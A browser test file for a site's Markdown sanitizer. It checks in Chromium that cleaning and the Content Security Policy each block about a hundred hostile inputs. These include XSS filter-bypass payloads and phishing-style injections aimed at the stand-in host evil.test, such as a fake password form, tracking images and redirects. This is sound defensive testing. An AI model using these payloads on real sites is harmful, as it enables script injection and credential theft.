"""Hostile Markdown in a real browser: the cleaning holds without the content policy, and the policy without the cleaning.

`tests/library/test_markdown.py` judges the cleaned HTML by a parser; here Chromium itself parses it, on a real page.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route

from tests.browser.school import DEADLINE, Site
from wellness.library.markdown import render_markdown
from wellness.web.http.headers import CONTENT_SECURITY_POLICY

RUN = "hits.push(NUMBER)"
PAGE = "/sessions/four-square-breathing"

RUNS = [
    # scripts
    "<script>RUN</script>",
    "<SCRIPT>RUN</SCRIPT>",
    "<script\n>RUN</script\n>",
    "<script/x>RUN</script>",
    "<script src='data:text/javascript,RUN'></script>",
    "<script type=module>RUN</script>",
    "words <script>RUN</script> words",
    "- item <script>RUN</script>",
    "> quote <script>RUN</script>",
    "| a |\n|---|\n| <script>RUN</script> |",
    "</p></div></main><script>RUN</script>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href='data:text/javascript,RUN'/></svg>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src='javascript:parent.RUN'></iframe>",
    "<object data='javascript:RUN'></object>",
    # attributes that run
    "<img src=x onerror=RUN>",
    "<img src=x ONERROR = 'RUN'>",
    "<img/src=x/onerror=RUN>",
    "<img src=x onerror\n=\nRUN>",
    "<img src=x onerror='RUN'//>",
    "<img src=x onerror=&#104;its.push(NUMBER)>",
    "![\" onerror=\"RUN](/x.png)<img src=x onerror=RUN>",
    '<img """><img src=x onerror="RUN">',
    "<svg onload=RUN></svg>",
    "<svg><image href=x onerror=RUN></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></animate></svg>",
    "<svg><set onbegin=RUN attributeName=x to=y></set></svg>",
    "<body onload=RUN>",
    "<video src=x onerror=RUN></video>",
    "<video><source src=x onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<input autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<select autofocus onfocus=RUN></select>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<p onmouseover=RUN>x</p>",
    "<p onclick=RUN>x</p>",
    "<p onfocus=RUN tabindex=1>x</p>",
    "<a href='/x' onclick='RUN;return false'>x</a>",
    "<x-y onclick=RUN>x</x-y>",
    "<td onclick=RUN>x</td><b onclick=RUN>x</b>",
    "<math><mtext onclick=RUN>x</mtext></math>",
    "<marquee onstart=RUN>x</marquee><p onmouseover=RUN>y</p>",
    "<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=RUN>x</p>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript><img src=x onerror=RUN>",
    "<p><svg></p><style><a id='</style><img src=x onerror=RUN>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'><img src=x onerror=RUN>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "<!--><img src=x onerror=RUN>-->",
    "<!-- --!><img src=x onerror=RUN> -->",
    "<![CDATA[<img src=x onerror=RUN>]]><img src=x onerror=RUN>",
    "<textarea></textarea><img src=x onerror=RUN>",
    "<title><img src='</title><img src=x onerror=RUN>'>",
    # links that run
    "<a href='javascript:RUN'>x</a>",
    "<a href='JaVaScRiPt:RUN'>x</a>",
    "<a href=' javascript:RUN'>x</a>",
    "<a href='&#1;javascript:RUN'>x</a>",
    "<a href='java&Tab;script:RUN'>x</a>",
    "<a href='java&NewLine;script:RUN'>x</a>",
    "<a href='java&#10;script&colon;RUN'>x</a>",
    "<a href='&#106;avascript:RUN'>x</a>",
    "<a href='javascript://%0aRUN'>x</a>",
    "<svg><a href='javascript:RUN'><text>x</text></a></svg>",
    "<svg><a xlink:href='javascript:RUN'><text>x</text></a></svg>",
    "<math href='javascript:RUN'>x</math><a href='javascript:RUN'>y</a>",
    "<form action='javascript:RUN'><button>x</button></form>",
    "<button form=f formaction='javascript:RUN'>x</button><form id=f></form>",
    "<area href='javascript:RUN'>",
]  # fmt: skip
"""What runs in a browser when nothing holds it; written as HTML, which Markdown lets through."""

MISLEADS = [
    "[x](javascript:RUN)",
    "[x](data:text/html,<script>RUN</script>)",
    "[x](vbscript:RUN)",
    "[x][1]\n\n[1]: javascript:RUN",
    "<javascript:RUN>",
    "[x](//evil.test/)",
    "[x](/\\evil.test/)",
    "[x](\\\\evil.test)",
    "[x](/\t/evil.test)",
    "![x](https://evil.test/seen.png)",
    "![x](//evil.test/seen.png)",
    "<img src='https://evil.test/seen.png' alt=x>",
    "<img srcset='https://evil.test/seen.png 1x' src='/media/x.png' alt=x>",
    "<iframe src='https://evil.test/'></iframe>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<style>main{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<base href='https://evil.test/'>",
    "<form action='https://evil.test/'><input name=password autofocus><button>Sign in</button></form>",
    "<p style='position:fixed;inset:0;z-index:9;background:#fff'>Sign in again</p>",
    "<dialog open>Sign in again</dialog>",
    "<p class='notice' role=alert aria-hidden=true hidden contenteditable>x</p>",
    "<a id=location name=location href='/x'>x</a>",
    "<img name=getElementById src='/media/x.png' alt=x>",
    "<form id=forms name=querySelector><input name=action id=csrf_token></form>",
    "<p id=main data-practice='x' is=x-y>x</p>",
    "</div></section></main><h1>Another page</h1>",
    "<template shadowrootmode=open><p>x</p></template>",
    "<portal src='https://evil.test'></portal><object data='https://evil.test/'></object><embed src='https://evil.test/'>",
    "<a href='/x' ping='https://evil.test/' target=_blank download>x</a>",
    "<video autoplay src='https://evil.test/x.mp4'></video>",
]  # fmt: skip
"""What runs nothing and still would lead, show or tell what it should not."""

CASES = [case.replace("RUN", RUN).replace("NUMBER", str(number)) for number, case in enumerate((*RUNS, *MISLEADS))]

STIR = """() => {
  for (const one of document.querySelectorAll("body *")) {
    for (const name of ["mouseover", "focus", "click", "pointerenter"]) {
      one.dispatchEvent(new Event(name, {bubbles: false, cancelable: true}));
    }
  }
  for (const one of document.querySelectorAll("a, area, button")) {
    const leads = String(one.href?.baseVal ?? one.href ?? one.formAction ?? "") + (one.form?.action ?? "");
    if (/javascript:/i.test(leads) || one.namespaceURI.endsWith("svg")) {
      one.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}));
    }
  }
  return new Promise((done) => requestAnimationFrame(() => setTimeout(() => done([...new Set(hits)]))));
}"""
"""Touch everything there is, follow what would run, and say what ran."""


@pytest.fixture(params=["with the policy", "without the policy"])
def page(request: pytest.FixtureRequest, browser: Browser, shared_site: Site) -> Iterator[Page]:
    """A page of the site into which all cases have been put, one after the other, cleaned as the site cleans them."""
    context = browser.new_context(base_url=shared_site.address, bypass_csp=request.param == "without the policy")
    context.set_default_timeout(DEADLINE)
    context.add_init_script("window.hits = []")
    cleaned = "".join(f"<div data-case={n}>{render_markdown(case)}</div>" for n, case in enumerate(CASES))

    def answer(route: Route) -> None:
        fetched = route.fetch()
        before, heading, after = fetched.text().partition("</h1>")
        assert heading
        route.fulfill(response=fetched, body=f"{before}</h1><div id=cases>{cleaned}</div>{after}")

    context.route(lambda url: url.endswith(PAGE), answer)
    opened = context.new_page()
    opened.told = []  # type: ignore[attr-defined]
    context.on("request", lambda one: opened.told.append(one.url))  # type: ignore[attr-defined]
    opened.goto(PAGE)
    yield opened
    context.close()


def test_what_was_cleaned_runs_nothing_and_misleads_nobody(page: Page, shared_site: Site) -> None:
    assert len(CASES) > 90
    assert page.evaluate(STIR) == []
    found: dict[str, Any] = page.evaluate(
        """() => {
          const cases = document.querySelector("#cases");
          const all = [...cases.querySelectorAll("[data-case] *")];
          return {
            cases: cases.querySelectorAll(":scope > [data-case]").length,
            named: all.filter((one) => one.id || one.getAttribute("name")).length,
            attributes: [...new Set(all.flatMap((one) => one.getAttributeNames()))],
            tags: [...new Set(all.map((one) => one.tagName.toLowerCase()))],
            links: [...new Set([...cases.querySelectorAll("a[href]")].map((one) => one.protocol))],
            hosts: [...cases.querySelectorAll("a[href], img[src]")].map((one) => new URL(one.href || one.src).host),
            lifted: all.filter((one) => getComputedStyle(one).position !== "static").length,
            headings: document.querySelectorAll("h1").length,
            shadows: all.filter((one) => one.shadowRoot).length,
            hidden: getComputedStyle(document.querySelector("main")).display === "none",
            base: document.baseURI,
          };
        }"""
    )
    assert found["cases"] == len(CASES), "none broke out of its place"
    assert (found["named"], found["lifted"], found["headings"], found["shadows"], found["hidden"]) == (
        0,
        0,
        1,
        0,
        False,
    )
    assert set(found["attributes"]) <= {"href", "rel", "src", "alt"}
    assert (
        set(found["tags"]) & {"script", "style", "iframe", "form", "input", "button", "svg", "math", "object"} == set()
    )
    assert set(found["links"]) <= {"http:", "https:"}
    assert set(found["hosts"]) <= {shared_site.address.removeprefix("http://")}
    assert found["base"] == f"{shared_site.address}{PAGE}"
    assert [url for url in page.told if not url.startswith(shared_site.address)] == []  # type: ignore[attr-defined]


def ran(browser: Browser, policy: str | None) -> set[int]:
    """Which cases run when the HTML is sent as it was written."""
    context = browser.new_context(base_url="http://raw.test")
    context.set_default_timeout(DEADLINE)
    context.add_init_script("window.hits ??= []")
    context.route("**/*", lambda route: _send_raw(route, policy))
    found: set[int] = set()
    opened = context.new_page()
    for number in range(len(RUNS)):
        opened.goto(f"/{number}")
        found |= set(_hits(context, opened))
    context.close()
    return found


def _send_raw(route: Route, policy: str | None) -> None:
    number = route.request.url.removeprefix("http://raw.test/")
    if not number.isdigit():
        route.abort()
        return
    headers = {"Content-Security-Policy": policy} if policy else {}
    body = f"<!doctype html><title>x</title><body>{CASES[int(number)]}"
    route.fulfill(body=body, content_type="text/html", headers=headers)


def _hits(context: BrowserContext, page: Page) -> list[int]:
    assert len(context.pages) == 1
    found: list[int] = page.evaluate(STIR)
    return found


def test_the_policy_alone_lets_nothing_run(browser: Browser) -> None:
    assert ran(browser, CONTENT_SECURITY_POLICY) == set()


def test_without_either_the_cases_run(browser: Browser) -> None:
    """The judge of these tests has to be able to say no."""
    missed = [RUNS[number] for number in sorted(set(range(len(RUNS))) - ran(browser, None))]
    assert len(missed) <= len(RUNS) // 6, missed
